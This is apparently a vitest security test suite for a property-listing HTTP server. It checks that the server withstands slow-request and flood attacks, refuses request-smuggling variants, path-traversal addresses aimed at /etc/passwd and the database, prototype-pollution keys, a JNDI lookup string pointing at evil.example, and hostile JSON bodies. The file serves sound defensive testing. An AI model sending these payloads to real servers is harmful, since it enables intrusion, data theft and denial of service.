import { spawnSync } from 'node:child_process'
import { symlinkSync, unlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as wait } from 'node:timers/promises'
import { stripVTControlCharacters } from 'node:util'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { livePages } from '#src/addresses/live-pages.ts'
import { currentFolder, publish } from '#src/publish/publication.ts'
import { loadSite } from '#src/publish/site.ts'
import { createServerApp } from '#src/server/app.ts'
import { listen, type Listening } from '#src/server/listen.ts'
import { agency, grant, appContextIn, listing, take, testFolder } from '../fixtures.ts'
import { program } from './debian.ts'
import { ask, dial, requestText, sendBytes, type Answer, type Line } from './http.ts'
import { atLength } from './rounds.ts'
import { openHome, serveApart, type Served } from './served.ts'

let apart: Served
const appContext = appContextIn(testFolder())
const errors: unknown[] = []
let here: Listening

beforeAll(async () => {
  apart = await serveApart([...openHome('ol-test01'), ...openHome('ol-test02')])
  take(appContext, agency(), listing(), grant(), listing('ol-test02'), grant('ol-test02'))
  const site = await loadSite()
  await publish(appContext, site)
  const app = await createServerApp({ appContext, site, onError: (error) => errors.push(error) })
  here = await listen(app, { host: '127.0.0.1', port: 0 })
})
afterAll(async () => {
  await Promise.all([here.close(), apart.stop()])
  expect(errors).toEqual([])
})

const post = 'POST /v1/property-searches HTTP/1.1\r\nHost: localhost\r\n'

const isOpen = ([, { socket }]: readonly [string, Line]) => !socket.closed

/** Writes a piece again and again until the server has closed. */
const trickle = (line: Line, piece: string) => {
  const timer = setInterval(() => line.write(piece), 500)
  void line.closed.then(() => clearInterval(timer))
}

/** Ways to occupy a socket: what is sent at once, and what again and again. */
const ways: Record<string, [first: string, again?: string]> = {
  'nothing at all': [''],
  'half a request line': ['GET /prop'],
  'headers without an end': ['GET / HTTP/1.1\r\n', 'X: a\r\n'],
  'a body by Content-Length': [`${post}Content-Length: 9999\r\n\r\n{`, ' '],
  'a body in chunks': [`${post}Transfer-Encoding: chunked\r\n\r\n`, '1\r\n \r\n'],
  'a chunk extension without an end': [`${post}Transfer-Encoding: chunked\r\n\r\n2;`, 'a'],
  'trailers without an end': [`${post}Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n`, 'X: a\r\n'],
  'a body for an MCP tool': [
    'POST /mcp/public HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 9999\r\n\r\n{',
    ' ',
  ],
  'a body where none belongs': [
    'GET /healthz HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9999\r\n\r\n{',
    ' ',
  ],
  'a body that nobody reads': [
    'POST /nowhere HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9999\r\n\r\n{',
    ' ',
  ],
  'a body that waits to be asked for': [`${post}Content-Length: 9999\r\nExpect: 100-continue\r\n\r\n`],
  'a second request that never ends': ['GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\nGET', 'X'],
  'an answered connection': ['GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n'],
  'an upgrade to something else': [
    'GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n',
  ],
}

test('a socket that is occupied by slow headers, slow bodies or silence is closed within 10 s while others are served', async () => {
  const lines = await Promise.all(
    Object.entries(ways).flatMap(([name, [first, again]]) =>
      Array.from({ length: 5 }, async () => {
        const line = await dial(apart.port)
        if (first) line.write(first)
        if (again) trickle(line, again)
        return [name, line] as const
      }),
    ),
  )
  const all = Promise.all(
    lines.map(async ([name, line]) => [name, (await line.closed).milliseconds] as const),
  )
  let served = 0
  for (const end = Date.now() + 12_000; lines.some(isOpen) && Date.now() < end; served++) {
    expect((await ask(apart.port, 'GET', '/properties/ol-test01')).status).toBe(200)
    await wait(50)
  }
  expect(served).toBeGreaterThan(20)
  const late = await Promise.race([all, wait(100).then(() => null)])
  expect(late?.filter(([, milliseconds]) => milliseconds > 10_000)).toEqual([])
})

const megabyte = 'x'.repeat(65_536)
const endless: Record<string, [head: string, piece: string]> = {
  'a body in chunks': [`${post}Transfer-Encoding: chunked\r\n\r\n`, `10000\r\n${megabyte}\r\n`],
  'a body by Content-Length': [`${post}Content-Length: 999999999999\r\n\r\n`, megabyte],
  'a body to a page': [
    'POST /properties/ol-test01 HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n',
    `10000\r\n${megabyte}\r\n`,
  ],
  'a body of a GET': [
    'GET /properties/ol-test01 HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n',
    `10000\r\n${megabyte}\r\n`,
  ],
  headers: ['GET / HTTP/1.1\r\n', `X: ${'y'.repeat(1_000)}\r\n`],
  'a target': ['GET /', megabyte],
  'a chunk extension': [`${post}Transfer-Encoding: chunked\r\n\r\n2;`, megabyte],
  trailers: [`${post}Transfer-Encoding: chunked\r\n\r\n0\r\n`, `X: ${'y'.repeat(1_000)}\r\n`],
}

/** Writes as fast as the server reads, until it closes the connection; resolves with the seconds that took. */
const flood = async (port: number, head: string, piece: string): Promise<number> => {
  const line = await dial(port)
  const closed = line.closed.then(({ milliseconds }) => milliseconds / 1_000)
  line.write(head)
  while (!line.socket.closed)
    if (!line.socket.write(piece))
      await Promise.race([new Promise((resolve) => line.socket.once('drain', resolve)), closed])
    else await wait(0)
  return closed
}

test('endless requests are cut off at once, and leave no memory in use', async () => {
  const before = apart.memory()
  for (const [name, [head, piece]] of Object.entries(endless))
    expect(await flood(apart.port, head, piece), name).toBeLessThan(4)
  expect(apart.memory() - before).toBeLessThan(150)
})

test('pipelined requests are answered in turn, a few at a time, and delay nobody else', async () => {
  const few =
    requestText('GET', '/properties/ol-test01.json').repeat(5) +
    requestText('GET', '/none', { Connection: 'close' })
  const answers = await sendBytes(apart.port, few)
  expect(answers.map(({ status }) => status)).toEqual([200, 200, 200, 200, 200, 404])

  const before = apart.memory()
  const greedy = await Promise.all(
    Array.from({ length: 20 }, async () => {
      const line = await dial(apart.port)
      line.socket.pause()
      line.write(requestText('GET', '/search').repeat(1_500))
      return line
    }),
  )
  for (let round = 0; round < 10; round++)
    expect((await ask(apart.port, 'GET', '/properties/ol-test01')).status).toBe(200)
  expect(apart.memory() - before).toBeLessThan(250)
  for (const line of greedy) line.socket.resume()
  const ended = await Promise.all(greedy.map(({ closed }) => closed))
  expect(ended).toHaveLength(20)
})

/** What no two servers in a row would read alike (RFC 9112 11.2): each is refused, and ends the connection. */
const smuggling: Record<string, string> = {
  'Content-Length and Transfer-Encoding': `${post}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n`,
  'Transfer-Encoding and Content-Length': `${post}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n`,
  'two lengths': `${post}Content-Length: 2\r\nContent-Length: 40\r\n\r\n{}GET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n`,
  'a list of lengths': `${post}Content-Length: 2, 2\r\n\r\n{}`,
  'a negative length': `${post}Content-Length: -1\r\n\r\n{}`,
  'a length with a sign': `${post}Content-Length: +2\r\n\r\n{}`,
  'a hexadecimal length': `${post}Content-Length: 0x2\r\n\r\n{}`,
  'an encoding nobody knows': `${post}Transfer-Encoding: xchunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n`,
  'chunked that is not last': `${post}Transfer-Encoding: chunked, identity\r\n\r\n2\r\n{}\r\n0\r\n\r\n`,
  'chunked twice': `${post}Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n`,
  'chunks ended by a bare LF': `${post}Transfer-Encoding: chunked\r\n\r\n2\n{}\n0\n\n`,
  'a chunk beyond all sizes': `${post}Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n{}\r\n0\r\n\r\n`,
  'a length among the trailers': `${post}Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\nContent-Length: 5\r\n\r\n`,
  'lines ended by a bare LF': 'GET /healthz HTTP/1.1\nHost: localhost\n\n',
  'one line ended by a bare LF': 'GET /healthz HTTP/1.1\r\nHost: localhost\nX: y\r\n\r\n',
  'a bare CR': 'GET /healthz HTTP/1.1\r\nHost: localhost\rX: y\r\n\r\n',
  'a folded line': 'GET /healthz HTTP/1.1\r\nHost: localhost\r\nX: a\r\n b\r\n\r\n',
  'a folded length': `${post}Content-Length:\r\n 2\r\n\r\n{}`,
  'a space before the colon': `${post}Content-Length : 2\r\n\r\n{}`,
  'a space before the first header': 'GET /healthz HTTP/1.1\r\n Host: localhost\r\n\r\n',
  'NUL in a header': 'GET /healthz HTTP/1.1\r\nHost: localhost\r\nX: a\0b\r\n\r\n',
  'no Host': 'GET /healthz HTTP/1.1\r\n\r\n',
  'two Hosts': 'GET /healthz HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\n\r\n',
  'two Hosts, one in capitals': 'GET /healthz HTTP/1.1\r\nHOST: h\r\nX: y\r\nhost: h\r\n\r\n',
  'a Host with a path': 'GET /healthz HTTP/1.1\r\nHost: a/b?c#d@e\r\nConnection: close\r\n\r\n',
  'a preface of HTTP/2': 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  'a TLS greeting': '\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003',
  'a body that hides a request':
    'GET /healthz HTTP/1.1\r\nHost: localhost\r\nContent-Length: 40\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: hh\r\n\r\n  ',
}

test('a request that two servers could parse differently is refused, and its connection is closed', async () => {
  for (const [name, bytes] of Object.entries(smuggling)) {
    const line = await dial(here.port)
    line.write(Buffer.from(bytes, 'latin1'))
    await line.closed
    const received = line.received().toString('latin1')
    expect(received.match(/HTTP\/1\.1 \d+/g) ?? [], name).toEqual([
      name === 'a body that hides a request' ? 'HTTP/1.1 200' : 'HTTP/1.1 400',
    ])
    expect(received, name).toMatch(/\r\nconnection: close/i)
  }
})

/** Addresses that lead nowhere, or back to one that is public. */
const nowhere = [
  '/properties/%2e%2e/%2e%2e/etc/passwd',
  '/..%2f..%2f..%2fetc%2fpasswd',
  '/../../../../etc/passwd',
  '/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
  '/..%5c..%5cetc%5cpasswd',
  '/%252e%252e%252fetc%252fpasswd',
  '/properties/ol-test01%00',
  '/properties/ol-test01%00.md',
  '/properties/ol-test01;x=y',
  '/properties/ol-test01.html',
  '/properties/ol-test01/',
  '/properties/%',
  '/properties/%zz/availability',
  '/properties/%ff%fe',
  '/media/ol-test01/..%2f..%2fproperties%2fol-test01.json',
  '/media/../data/open-listings.sqlite',
  '/_astro/..%2f..%2fpackage.json',
  '/_astro/../../package.json',
  '/current/properties/ol-test01.json',
  '/_headers',
  '//properties/ol-test01',
  '//search?municipalities=',
  '/properties/__proto__',
  '/properties/constructor',
  '/municipalities/__proto__',
  '/municipalities/constructor',
  '/districts/toString',
  '/agencies/constructor',
  '/media/ol-test01/1.constructor',
  '/sitemap-constructor.xml',
  '/feeds/open-listings/99999999999999999999.json',
  '/municipalities/lisboa/99999999999999999999',
  '/v1/properties/__proto__',
  '/v1/properties/..%2f..%2fetc',
  '/v1/properties/constructor/evidence',
  '/compare?ids=__proto__,constructor',
  `/properties/${'a'.repeat(15_000)}`,
  `/v1/properties/${'%61'.repeat(5_000)}`,
]

const stack = /\n\s+at |node_modules|SQLITE_|(?:Type|Range|URI)Error/

const isHarmless = (answer: Answer | undefined, name: string) => {
  expect(answer?.status, name).toBeLessThan(500)
  expect(stack.exec(answer?.body.toString() ?? '')?.[0], name).toBeUndefined()
}

test('an address outside the site, or none at all, is not found', async () => {
  for (const target of nowhere) {
    const [answer] = await sendBytes(
      here.port,
      `GET ${target} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`,
    )
    isHarmless(answer, target)
    // With a slash at its end an address leads to the one without.
    expect(answer?.status, target).toBe(/[^/]\/$/.test(target) ? 308 : 404)
  }
  for (const target of ['*', '', '/\\properties', 'ftp://h/', '/\u00ff\u00fe', '/a b'])
    expect(
      (
        await sendBytes(
          here.port,
          Buffer.from(`GET ${target} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`, 'latin1'),
        )
      )[0]?.status,
      target,
    ).toBe(400)
  for (const target of ['/v1/properties/%', '/v1/properties/%ff', '/v1/public-sync/changes?after=%ff'])
    expect((await ask(here.port, 'GET', target)).status, target).toBe(422)
  const absolute = await ask(here.port, 'GET', 'http://evil.example/search?municipalities=')
  expect([absolute.status, absolute.headers['location']]).toEqual([303, '/search'])
})

test('a symbolic link out of the site folder is not followed', async () => {
  const address = '/properties/ol-test02.json'
  const right = await ask(here.port, 'GET', address)
  const outside = join(testFolder(), 'secret.json')
  writeFileSync(outside, '{"secret":"zebra"}')
  const file = join(currentFolder(appContext), address)
  unlinkSync(file)
  symlinkSync(outside, file)
  const answer = await ask(here.port, 'GET', address)
  expect(answer.status).toBe(200)
  expect(answer.body.equals(right.body)).toBe(true)
})

const methods =
  'GET HEAD POST PUT PATCH DELETE OPTIONS TRACE CONNECT QUERY PROPFIND M-SEARCH LOCK PURGE'.split(' ')
const targets = [
  '/',
  '/healthz',
  '/properties/ol-test01',
  '/properties/ol-test01.json',
  ...livePages.map((path) => path.replace(':id', 'ol-test01')),
  '/feeds/shortlist.atom',
  '/feeds/search.atom',
  '/sitemap.xml',
  '/v1/openapi.json',
  '/v1/property-searches',
  '/v1/properties/ol-test01',
  '/v1/public-sync/changes',
  '/mcp/public',
  '/mcp',
  '/.well-known/mcp.json',
]

test('a method that an address does not support is refused, with Allow', async () => {
  for (const target of targets)
    for (const method of methods) {
      const [answer] = await sendBytes(
        here.port,
        requestText(method, target, { Connection: 'close' }),
        method,
      )
      const name = `${method} ${target}`
      // Node closes a CONNECT that nobody listens for.
      if (method === 'CONNECT') {
        expect(answer, name).toBeUndefined()
        continue
      }
      isHarmless(answer, name)
      if (answer?.status === 405) expect(answer.headers['allow'], name).toMatch(/^(GET, HEAD|POST)/)
      else expect([200, 204, 401, 403, 415, 422], name).toContain(answer?.status)
    }
})

const many = (count: number, word: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => word(index))
const json = { 'Content-Type': 'application/json' }

/** Headers that cost or confuse; the page and the record must answer all the same. */
const absurd: Record<string, string>[] = [
  { Accept: ','.repeat(15_000) },
  { Accept: '",'.repeat(7_000) },
  { Accept: 'text/html;q=0.1,'.repeat(900) },
  { Accept: `text/html${';a=b'.repeat(3_500)}` },
  { Accept: '*/*;q=1e999, text/markdown;q=-1, text/html;q=NaN' },
  { Accept: '__proto__/constructor, constructor/__proto__, zebra/zebra' },
  { Accept: '/'.repeat(15_000) },
  { 'If-None-Match': 'W/"a",'.repeat(2_500) },
  { 'If-None-Match': '"'.repeat(15_000) },
  { 'If-Modified-Since': 'never', 'If-Unmodified-Since': 'Thu, 01 Jan 1970 00:00:00 GMT', 'If-Match': '"x"' },
  { Range: 'bytes=0-0' },
  { Range: `bytes=${many(2_000, (index) => `${index}-`).join(',')}` },
  { Range: 'bytes=-99999999999999999999, zebra=1' },
  { 'Accept-Encoding': 'gzip, br, *;q=0', 'Accept-Language': '*'.repeat(5_000) },
  {
    __proto__x: 'a',
    constructor: 'b',
    'X-HTTP-Method-Override': 'DELETE',
    'X-Original-URL': '/mcp',
    'X-Rewrite-URL': '/mcp',
  },
  { Cookie: 'a=b; '.repeat(1_000), Authorization: 'Bearer '.repeat(500) },
  { Origin: 'null', Referer: 'javascript:alert(1)', 'User-Agent': '${jndi:ldap://evil.example/a}' },
]

test('absurd headers give the usual answer or a refusal, and nothing of them is reflected', async () => {
  for (const headers of absurd)
    for (const target of [
      '/properties/ol-test01',
      '/properties/ol-none',
      '/v1/properties/ol-test01',
      '/search',
    ]) {
      const answer = await ask(here.port, 'GET', target, headers)
      const name = `${target} ${JSON.stringify(headers).slice(0, 60)}`
      isHarmless(answer, name)
      expect([200, 404, 406], name).toContain(answer.status)
      expect(/jndi|zebra|Bearer/.exec(answer.body.toString())?.[0], name).toBeUndefined()
    }
})

test('hostile bodies are refused with a message: depth, prototype keys, bytes that are no text, floods of words', async () => {
  const send = (body: string, target = '/v1/property-searches') => ask(here.port, 'POST', target, json, body)
  for (const key of ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty']) {
    const answer = await send(`{"${key}":{"limit":1}}`)
    expect([answer.status, answer.body.toString()], key).toEqual([
      422,
      expect.stringContaining('extra_forbidden'),
    ])
    const inner = await send(`{"readiness_min":{"${key}":"validated"}}`)
    expect([inner.status, inner.body.toString()], key).toEqual([
      200,
      expect.stringContaining('"unrecognised"'),
    ])
  }
  expect(({} as Record<string, unknown>)['limit']).toBeUndefined()
  for (const body of [
    `${'['.repeat(30_000)}${']'.repeat(30_000)}`,
    '{"a":'.repeat(10_000),
    '{"limit":1e999}',
    '{"limit":1,"limit":2}',
    '{"must_have":["\ud800"]}'.replace('\ud800', '\\ud800\\u0000'),
  ])
    isHarmless(await send(body), body.slice(0, 40))
  for (const bytes of [
    '\xff\xfe',
    '\xc0\xae',
    '\xed\xa0\x80',
    '{"a":"\xf5"}',
    '\xef\xbb\xbf\xef\xbb\xbf{}',
  ]) {
    const [answer] = await sendBytes(
      here.port,
      Buffer.from(
        `${post}Content-Type: application/json\r\nConnection: close\r\nContent-Length: ${bytes.length}\r\n\r\n${bytes}`,
        'latin1',
      ),
    )
    expect(answer?.status, JSON.stringify(bytes)).toBe(422)
  }
  for (const field of ['must_have', 'preferences', 'typologies', 'property_types']) {
    const answer = await send(JSON.stringify({ [field]: many(11_000, (index) => index.toString(36)) }))
    expect(answer.status, field).toBe(200)
    expect(answer.body.length, field).toBeLessThan(2_000_000)
  }
  expect((await send(`"${'x'.repeat(70_000)}"`)).status).toBe(413)
  expect((await send('{}', '/v1/property-comparisons')).status).toBe(422)
})

if (atLength) {
  test('a client that reads nothing of its answer is cut off', async () => {
    // Half a megabyte each: more than the buffers of the sockets.
    const words = many(900, (index) => `preferences=${index.toString(36)}`).join('&')
    const lines = await Promise.all(
      Array.from({ length: 5 }, async () => {
        const line = await dial(apart.port)
        line.socket.pause()
        line.write(requestText('GET', `/search?${words}`).repeat(30))
        return line
      }),
    )
    // Twice the limit: at the first check the buffers of the sockets had still accepted something.
    await wait(38_000)
    for (const line of lines) line.socket.resume()
    const completeAnswers = (line: Line) =>
      line
        .received()
        .toString('latin1')
        .match(/HTTP\/1\.1 200/g)?.length ?? 0
    await Promise.race([Promise.all(lines.map(({ closed }) => closed)), wait(5_000)])
    expect(lines.filter((line) => !line.socket.closed)).toHaveLength(0)
    expect(lines.filter((line) => completeAnswers(line) >= 30)).toHaveLength(0)
  })

  // Seen not to end with a headersTimeout and a requestTimeout of 0 in src/server/listen.ts: the sockets stayed.
  test('10,000 idle connections take a bounded amount of memory and are closed within 10 s, while others are served', async () => {
    const before = apart.memory()
    const lines: Line[] = []
    while (lines.length < 10_000)
      lines.push(...(await Promise.all(Array.from({ length: 250 }, () => dial(apart.port)))))
    const during = apart.memory() - before
    const all = Promise.all(lines.map(async ({ closed }) => (await closed).milliseconds))
    for (const end = Date.now() + 12_000; Date.now() < end && lines.some(({ socket }) => !socket.closed);) {
      expect((await ask(apart.port, 'GET', '/properties/ol-test01')).status).toBe(200)
      await wait(50)
    }
    const longest = Math.max(...(await all))
    console.log(
      `10,000 idle connections: ${during.toFixed(0)} MB more, closed after ${(longest / 1_000).toFixed(1)} s`,
    )
    expect(during).toBeLessThan(200)
    expect(longest).toBeLessThan(10_000)
  })

  test('slowhttptest finds the service available under slow headers, slow bodies and slow reading', () => {
    const tool = program('slowhttptest')
    const url = `http://127.0.0.1:${apart.port}/search`
    for (const [name, ...options] of [
      ['slow headers', '-H'],
      ['slow bodies', '-B'],
      ['slow reading', '-X', '-w', '64', '-y', '256', '-n', '3', '-z', '32', '-k', '3'],
    ] as const) {
      const { stdout } = spawnSync(
        tool,
        [...options, '-c', '1000', '-r', '300', '-i', '3', '-l', '20', '-p', '3', '-u', url],
        { encoding: 'utf8' },
      )
      const states = [...stripVTControlCharacters(stdout).matchAll(/service available:\s+(YES|NO)/g)].map(
        ([, state]) => state,
      )
      // It ends by itself when every connection was closed.
      expect(states.length, name).toBeGreaterThan(0)
      expect(states, name).not.toContain('NO')
    }
  })
}
